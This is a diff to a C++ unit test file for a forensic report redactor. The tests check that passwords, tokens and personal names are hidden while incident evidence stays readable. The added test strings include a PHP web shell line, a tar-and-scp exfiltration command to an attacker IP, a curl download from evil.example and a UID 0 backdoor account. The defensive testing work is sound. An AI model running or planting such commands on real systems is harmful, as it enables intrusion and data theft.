@@ -3,6 +3,7 @@
 #include <QTemporaryDir>
 
 #include "report/build.hpp"
+#include "report/findings.hpp"
 #include "support/case_fixture.hpp"
 #include "support/test_main.hpp"
 
@@ -43,7 +44,10 @@ private slots:
         QTest::newRow("percent") << QByteArray("GET /?a=Kiste%20mit%20Satz%207%2Fx HTTP/1.1") << QByteArray("GET /?a=[redacted] HTTP/1.1");
         QTest::newRow("form") << QByteArray("a=Kiste+mit+Satz+7/x&b=1") << QByteArray("a=[redacted]&b=1");
         QTest::newRow("JSON") << QByteArray("{\"a\":\"Kiste mit Satz 7\\/x\"}") << QByteArray("{\"a\":\"[redacted]\"}");
-        QTest::newRow("cut off") << QByteArray("$c='" + glass.left(20)) << QByteArray("$c='[redacted]");
+        QTest::newRow("joined to a name in a sentence") << QByteArray("(/srv/kunden-pw_NamePw55.zip; 2) and /srv/kunden-pw_NamePw55.zip.") << QByteArray("(/srv/kunden-pw_[redacted].zip; 2) and /srv/kunden-pw_[redacted].zip.");
+        QTest::newRow("paths stay") << QByteArray("/etc/pam.d/common-password, /usr/lib/libpam_pwquality.so.1.0.2 and a/b") << QByteArray("/etc/pam.d/common-password, /usr/lib/libpam_pwquality.so.1.0.2 and a/b");
+        QTest::newRow("cut off") << QByteArray(200, '#') + " $c='" + glass.left(20) << QByteArray(200, '#') + " $c='[redacted]";
+        QTest::newRow("its beginning, where nothing was cut") << "$c='" + glass.left(20) << "$c='" + glass.left(20);
     }
     void values_of_the_machine() {
         test::CaseFixture fixture;
@@ -54,6 +58,85 @@ private slots:
         QFETCH(QByteArray, text);
         QFETCH(QByteArray, shown);
         QCOMPARE(QByteArray::fromStdString(redactor->text(text.toStdString())), shown);
+    }
+
+    // An intruder declares names of his own to be passwords: they stay what they are, but where they are used as such. A password stays hidden.
+    void names_stay_true_data() {
+        QTest::addColumn<QByteArray>("text");
+        QTest::addColumn<QByteArray>("shown");
+        const auto stays = [](const char* text) { QTest::newRow(text) << QByteArray(text) << QByteArray(text); };
+        stays("/var/www/html/uploads7/x99shell.php");
+        stays("203.0.113.77 - - \"GET /uploads7/x99shell.php?c=id HTTP/1.1\" 200");
+        stays("rm x99shell.php; tar czf /srv/kunden2026.tar.gz /var/www; scp kunden2026.tar.gz x@203.0.113.77:");
+        stays("new user: name=svc9update, UID=0");
+        stays("Accepted password for svc9update from 203.0.113.77 port 51515 ssh2");
+        stays("GET /gone7dir/gone8x.php HTTP/1.1");  // deleted, not on the disk
+        stays("./gone8x.php; cp gone8x.php.bak /tmp");
+        stays("/etc/pam.d/common-password");
+        stays("connect to evil7.example.net, 2001:db8::77 and mail boss77@evil.example");
+        stays("curl -O https://evil.example/a7b8c9");
+        stays("<?php system($_GET['c7']); ?>");
+        stays("password");
+        stays("kind=password");
+        stays("/srv/exfil.tgz");
+        stays("part of x99shell");  // a part of a name of the case
+        QTest::newRow("where one is used as a password") << QByteArray("X1_PASSWORD=x99shell.php") << QByteArray("X1_PASSWORD=[redacted]");
+        QTest::newRow("as an option") << QByteArray("sshpass -p x99shell.php ssh h") << QByteArray("sshpass -p [redacted] ssh h");
+        QTest::newRow("the other half of two") << QByteArray("it was Vukolem8812 for exfil.tgz") << QByteArray("it was [redacted] for exfil.tgz");
+        QTest::newRow("both halves") << QByteArray("note: exfil.tgz:Vukolem8812") << QByteArray("note: exfil.tgz:[redacted]");
+        QTest::newRow("an account and a short one") << QByteArray("note: svc9update:Kuk7") << QByteArray("note: svc9update:[redacted]");
+        QTest::newRow("a line for chpasswd") << QByteArray("svc9update:Bafenzo8755") << QByteArray("svc9update:[redacted]");
+        stays("svc9update:15-alpine");
+        stays("nobody9:Bafenzo8755");  // no account
+        QTest::newRow("the login of a link") << QByteArray("said Linkpw7788 again") << QByteArray("said [redacted] again");
+        QTest::newRow("a password") << QByteArray("they tried Sommer2025! and /a/Sommer2025! and kunden-Sommer2025!.zip") << QByteArray("they tried [redacted] and /a/[redacted] and kunden-[redacted].zip");
+        QTest::newRow("a password of Oracle") << QByteArray("sql system/Kastanie7712@ORCL") << QByteArray("sql system/[redacted]@ORCL");
+        QTest::newRow("a token in a path") << QByteArray("GET /hook/0123456789abcdef0123456789abcdee HTTP/1.1") << QByteArray("GET /hook/[redacted] HTTP/1.1");
+    }
+    void names_stay_true() {
+        test::CaseFixture fixture;
+        test::FileSpec spec;
+        spec.path = "/etc/passwd", spec.bytes = "root:x:0:0:root:/root:/bin/bash\nsvc9update:x:0:0::/root:/bin/bash\n";
+        fixture.add_parsed("passwd", spec);
+        for (const char* path : {"/var/www/html/uploads7/x99shell.php", "/srv/kunden2026.tar.gz", "/srv/exfil.tgz", "/etc/pam.d/common-password"}) {
+            spec = {};
+            spec.path = path, spec.bytes = "x";
+            fixture.add(spec);
+        }
+        spec = {};
+        spec.path = "/srv/shop/.env", spec.content_type = "text/plain";
+        int number = 0;
+        for (const char* value : {"x99shell.php", "99shell.php", "x99shell", "uploads7", "uploads7/x99shell.php", "x99shell.php?c=id", "\"GET /uploads7/x99shell.php?c=id HTTP/1.1\"", "kunden2026.tar.gz", "kunden2026", "svc9update", "vc9update", "svc9update:Kuk7", "gone7dir", "gone8x.php",
+                                  "evil7.example.net", "2001:db8::77", "boss77@evil.example", "https://evil.example/a7b8c9", "203.0.113.77:51515", "\"from 203.0.113.77 port 51515\"", "exfil.tgz:Vukolem8812", "password:Vukolem8812", "\"system($_GET['c7']\"", "mysql://u:Linkpw7788@db/x", "Sommer2025!", "Kastanie7712",
+                                  "0123456789abcdef0123456789abcdee"})
+            spec.bytes += "X" + std::to_string(number++) + "_PASSWORD=" + value + "\n";
+        fixture.add_parsed("credentials", spec);
+        fixture.sql("INSERT INTO string(value, shared) VALUES('evil7.example.net', 1)");  // a log names it
+        const auto view = case_file::View::open(fixture.path());
+        const auto redactor = report::Redactor::load(*view, report::Redact::secrets);
+        QVERIFY(redactor.has_value());
+        QFETCH(QByteArray, text);
+        QFETCH(QByteArray, shown);
+        QCOMPARE(QByteArray::fromStdString(redactor->text(text.toStdString())), shown);
+        if (text.startsWith('/') && text == shown) QCOMPARE(QByteArray::fromStdString(redactor->name(text.toStdString())), shown);
+    }
+
+    // An account may be called as words of ours are: our sentences stay, what the evidence says in them does not.
+    void our_sentences_stay() {
+        test::CaseFixture fixture;
+        test::FileSpec spec;
+        spec.path = "/etc/passwd", spec.bytes = "root:x:0:0:root:/root:/bin/bash\nmay:x:1000:1000:May Long:/home/may:/bin/bash\n";
+        fixture.add_parsed("passwd", spec);
+        fixture.sql("INSERT INTO finding VALUES('aaaaaaaaaaaaaaaa', 'd', 'accounts/uid_zero_twin', 1, 1, 'may', 3, 1, '{\"user\":\"may\",\"shell\":\"/home/may/Kiste.sh\",\"password\":\"set\"}', 1710000000, 0, 2, NULL, NULL, 1, 0)");
+        fixture.sql("INSERT INTO finding_item(finding, place, key, excerpt) VALUES('aaaaaaaaaaaaaaaa', 1, 'may', 'May Long may enter')");
+        const auto view = case_file::View::open(fixture.path());
+        const auto texts = report::Texts::load("en");
+        const auto findings = report::load_findings(*view, *texts, report::Redact::persons, {});
+        QVERIFY(findings.has_value() && findings->size() == 1);
+        const auto& finding = findings->front();
+        QVERIFY2(finding.explanation.find("as person-1 (shell /home/person-1/Kiste.sh, password: ") != std::string::npos && finding.explanation.find(" may do everything") != std::string::npos, finding.explanation.c_str());
+        QCOMPARE(finding.subject, std::string("person-1"));
+        QCOMPARE(finding.items.at(0).excerpt.value_or(""), std::string("person-1 person-1 enter"));
     }
 
     // A name is read part by part: what has no form of a secret stays as it is.
@@ -103,6 +186,13 @@ private slots:
         QTest::newRow("in capitals") << QByteArray("Frau BERG, HERR MÜLLER") << QByteArray("Frau person-1, HERR person-4");
         QTest::newRow("the family's name first") << QByteArray("Berg Martina and Wu Li") << QByteArray("person-1 and person-5");
         QTest::newRow("an umlaut spelled out") << QByteArray("J. Mueller, Mueller.php, Muellermeister") << QByteArray("J. person-4, person-4.php, Muellermeister");
+        QTest::newRow("half of a double name") << QByteArray("Herrn Weiß, Weiss-Graf, WEISS and Graf") << QByteArray("Herrn person-8, person-8, person-8 and person-8");
+        QTest::newRow("an apostrophe") << QByteArray("OConnor, O’Connor and O'CONNOR, Akte_OConnor.odt, oconnor@x") << QByteArray("person-9, person-9 and person-9, Akte_person-9.odt, person-9@x");
+        QTest::newRow("joined by a sign") << QByteArray("/u/Joerg_Mueller.vcf") << QByteArray("/u/person-4_person-4.vcf");
+        QTest::newRow("percent, UTF-8") << QByteArray("GET /p/J%C3%B6rg-M%C3%BCller?n=%C3%96zlem HTTP/1.1") << QByteArray("GET /p/person-4-person-4?n=person-8 HTTP/1.1");
+        QTest::newRow("percent, Latin-1") << QByteArray("/user?name=J%F6rg+M%FCller&x=Wei%DF") << QByteArray("/user?name=person-4+person-4&x=person-8");
+        QTest::newRow("letters and marks apart") << QByteArray("Mu\u0308ller.txt") << QByteArray("person-4.txt");
+        QTest::newRow("another script stays") << QByteArray("Kuznetsova") << QByteArray("Kuznetsova");
         QTest::newRow("without marks") << QByteArray("JOSÉ GARCÍA, jose.php, Kosciuszko, KOŚCIUSZKO") << QByteArray("person-6, person-6.php, person-7, person-7");
         QTest::newRow("a number that is a room's") << QByteArray("sshd[10443]: port 10443 on 2026-03-02") << QByteArray("sshd[10443]: port 10443 on 2026-03-02");
         QTest::newRow("where one is reached") << QByteArray("call 0171 5551234, Büro 4, room 7") << QByteArray("call [redacted], [redacted], [redacted]");
@@ -116,7 +206,8 @@ private slots:
         spec.bytes = "root:x:0:0:root:/root:/bin/bash\ngames:x:5:60:games:/usr/games:/bin/sh\nmartina:x:1000:1000:Martina Berg,room 7:/home/martina:/bin/bash\n"
                      "ops:x:1001:1001:Server Admin Games:/home/ops:/bin/bash\ndebian:x:1002:1002:Debian:/home/debian:/bin/bash\n"
                      "jmueller:x:1003:1003:Dr. Jörg Müller,Büro 4,0171 5551234,:/home/jmueller:/bin/bash\nliwu:x:1004:1004:Li Wu:/home/liwu:/bin/bash\n"
-                     "jgarcia:x:1005:1005:José García,10443,,,2026-03-02:/home/jgarcia:/bin/bash\njank:x:1006:1006:Jan Kościuszko:/home/jank:/bin/bash\n";
+                     "jgarcia:x:1005:1005:José García,10443,,,2026-03-02:/home/jgarcia:/bin/bash\njank:x:1006:1006:Jan Kościuszko:/home/jank:/bin/bash\n"
+                     "ozw:x:1007:1007:Özlem Weiß-Graf:/home/ozw:/bin/bash\nsio:x:1008:1008:Siobhán O'Connor:/home/sio:/bin/bash\nsvet:x:1009:1009:Светлана Кузнецова:/home/svet:/bin/bash\n";
         fixture.add_parsed("passwd", spec);
         const auto view = case_file::View::open(fixture.path());
         const auto redactor = report::Redactor::load(*view, report::Redact::persons);
@@ -150,9 +241,12 @@ private slots:
         QTest::newRow("several") << QByteArray("passwords are Kiste7x!, Kiste8x! and Kiste9x!") << QByteArray("passwords are [redacted], [redacted] and [redacted]");
         QTest::newRow("a number") << QByteArray("CISO, PIN 482913") << QByteArray("CISO, PIN [redacted]");
         QTest::newRow("words in quotes") << QByteArray("mit dem Passwort \"Kiste7 mit Leerzeichen\" ging es") << QByteArray("mit dem Passwort \"[redacted]\" ging es");
+        QTest::newRow("a key of an interface") << QByteArray("The API key zokoru#7Q was rotated; WLAN key = Rismi!49") << QByteArray("The API key [redacted] was rotated; WLAN key = [redacted]");
+        QTest::newRow("Bearer") << QByteArray("Bearer Zoriste-81x found in memory") << QByteArray("Bearer [redacted] found in memory");
+        QTest::newRow("a key, German") << QByteArray("Der Schlüssel für die Schnittstelle ist Ruhol!63. API-Schlüssel Holpel5836 gesperrt, Geheimnis: Quozo-68x") << QByteArray("Der Schlüssel für die Schnittstelle ist [redacted]. API-Schlüssel [redacted] gesperrt, Geheimnis: [redacted]");
         QTest::newRow("German") << QByteArray("Kennwort lautet Kiste7x") << QByteArray("Kennwort lautet [redacted]");
         for (const char* plain : {"The password of backup1 was changed on 2026-03-02T04:16:40Z", "password reset; see web1 and ticket INC4711", "passwords are hashed with sha512 on db1!", "No password was found. Then Abc123 came",
-                                  "Passwort geändert!", "password: changed", "Passwort: unbekannt", "passwords of root and of backup1 to be changed", "password: see the vault", "mail to ops@example.org: password policy", "12:30 told bob@web1", "the login came from 203.0.113.77 with a key", "logged in at 12:30 as bob/web1", "access to web1:8080 was closed", "Zugang zu https://web1/login7 gesperrt", "the bypass 7x was closed", "password \"", "the password stands in /etc/shop7/db.conf"})
+                                  "Passwort geändert!", "password: changed", "Passwort: unbekannt", "passwords of root and of backup1 to be changed", "password: see the vault", "mail to ops@example.org: password policy", "12:30 told bob@web1", "the login came from 203.0.113.77 with a key", "logged in at 12:30 as bob/web1", "access to web1:8080 was closed", "Zugang zu https://web1/login7 gesperrt", "the bypass 7x was closed", "password \"", "key findings on web1", "the SSH key SHA256:47DEQpj8HBSa on db1", "SSH-Schlüssel ed25519 von web1 ersetzt", "the password stands in /etc/shop7/db.conf"})
             QTest::newRow(plain) << QByteArray(plain) << QByteArray(plain);
     }
     void sentences() {
